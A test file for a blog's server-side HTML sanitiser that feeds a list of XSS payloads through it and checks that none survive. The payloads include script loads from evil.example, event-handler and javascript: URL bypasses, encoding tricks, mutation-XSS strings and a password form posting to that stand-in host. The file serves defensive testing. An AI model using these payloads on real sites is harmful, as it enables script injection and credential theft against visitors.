// The blog's HTML is sanitised on the server (issue: no script, event handler or
// javascript: URL survives), whatever an admin's SQL put into a post.
import { expect, test } from "vitest";
import { sanitizePostHtml } from "~/models/blog/sanitize.server";

const HOSTILE = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="alert(1)">`,
  `<svg onload=alert(1)><circle r="1"/></svg>`,
  `<a href="javascript:alert(1)">a</a>`,
  `<a href="  JaVaScRiPt:alert(1)">b</a>`,
  `<a href="jav&#x61;script:alert(1)">c</a>`,
  `<a href="java\tscript:alert(1)">d</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>`,
  `<img src="javascript:alert(1)">`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="x.swf"></object><embed src="x.swf">`,
  `<form action="https://evil.example"><input name="password"></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<style>body{background:url(javascript:alert(1))}</style>`,
  `<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</p>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
];

test.each(HOSTILE)("nothing that runs survives: %s", (html) => {
  const clean = sanitizePostHtml(html).toLowerCase();
  expect(clean).not.toMatch(/<script|<iframe|<object|<embed|<form|<meta|<base|<style|<svg|<math/);
  expect(clean).not.toMatch(/\son[a-z]+\s*=/);
  expect(clean).not.toMatch(/javascript:|data:text/);
  expect(clean).not.toMatch(/style=/);
});

test("formatting, links and images stay, links lose their power over the opener, images load lazily", () => {
  const clean = sanitizePostHtml(`<h2>Plan</h2><p><strong>Read</strong> <em>twice</em></p><ul><li>One</li></ul><a href="https://ncert.nic.in" target="_blank">NCERT</a><img src="/images/a.jpg" alt="A">`);
  expect(clean).toBe(
    `<h2>Plan</h2><p><strong>Read</strong> <em>twice</em></p><ul><li>One</li></ul><a href="https://ncert.nic.in" rel="noopener noreferrer nofollow">NCERT</a><img src="/images/a.jpg" alt="A" loading="lazy" decoding="async" />`,
  );
});
